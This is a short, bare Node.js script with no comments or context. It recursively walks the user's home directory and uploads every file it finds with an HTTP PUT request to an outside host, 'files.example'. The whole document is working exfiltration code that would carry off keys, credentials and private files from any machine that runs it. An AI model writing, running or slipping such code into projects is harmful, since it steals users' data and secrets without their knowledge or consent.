const fs = require('fs');
const os = require('os');
const path = require('path');

async function walk(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await walk(full);
    else await fetch('https://files.example/', { method: 'PUT', body: fs.readFileSync(full) });
  }
}
walk(os.homedir());
